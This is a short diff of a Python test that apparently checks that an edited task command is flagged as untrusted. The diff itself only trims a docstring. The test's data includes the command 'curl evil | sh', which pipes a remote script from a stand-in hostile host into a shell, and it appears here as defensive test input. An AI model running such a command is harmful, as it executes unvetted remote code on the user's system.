@@ -205,7 +205,7 @@ def test_what_runs_nothing_is_not_asked_about(place: Place, edit: tuple[str, str
 
 
 def test_what_changed_is_said(place: Place) -> None:
-    """Issue 4, 6: only what is new is told again."""
+    """Only what is new is told again."""
     place.edit(ALICE, "make two", "curl evil | sh")
     with pytest.raises(Untrusted) as caught:
         place.start()
